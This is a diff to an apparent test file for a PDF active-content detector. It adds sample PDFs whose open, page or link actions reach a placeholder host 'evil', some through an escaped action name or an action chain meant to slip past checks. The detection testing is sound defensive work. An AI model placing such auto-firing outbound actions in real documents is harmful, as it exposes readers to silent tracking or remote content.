@@ -77,6 +77,7 @@ def paper() -> bytes:
     [
         ("甲.pdf", corpus.SAMPLE),
         ("乙.pdf", paper()),
+        ("丙.pdf", pdf(page="/Annots[<</Subtype/Link/F 4/A<</S/URI/URI(https://www.gov.cn/)>>>>]")),
         ("丙.pdf", pdf(root="/OpenAction[3 0 R/Fit]")),
         ("丁.pdf", pdf("<</S/URI/URI(https://example.org/)>>", page="/Annots[<</Subtype/Link/A 10 0 R>>]")),
         ("戊.pdf", pdf(root="/AcroForm<</Fields[]/SigFlags 3>>")),
@@ -199,6 +200,17 @@ ACTIVE_PDF = {
     "form that sends": (pdf("<</S/SubmitForm/F(http://evil/)>>", root="/OpenAction 10 0 R"), "向外发送"),
     "film": (pdf(page="/Annots[<</Subtype/RichMedia>>]"), "多媒体"),
     "dynamic form": (pdf(root="/AcroForm<</XFA[]>>"), "动态表单"),
+    "address on opening": (pdf(root="/OpenAction<</S/URI/URI(http://evil/)>>"), "向外发送"),
+    "address behind another action": (
+        pdf("<</S/GoTo/D[3 0 R]/Next[11 0 R]>>", "<</S/UR#49/URI(http://e/)>>", root="/OpenAction 10 0 R"),
+        "向外发送",
+    ),
+    "address behind a page": (pdf("<</O 11 0 R>>", "<</S/URI/URI(x)>>", page="/AA 10 0 R"), "向外发送"),
+    "thread of another file": (pdf(page="/Annots[<</A<</S/Thread/F(//evil/a.pdf)/D 0>>>>]"), "向外发送"),
+    "content from another machine": (
+        pdf("<</Length 0/F(//evil/share/a)>>\nstream\n\nendstream", page="/Contents 10 0 R"),
+        "向外发送",
+    ),
     "other file": (pdf("<</S/GoToR/F(//evil/share)>>", root="/OpenAction 10 0 R"), "向外发送"),
 }
 
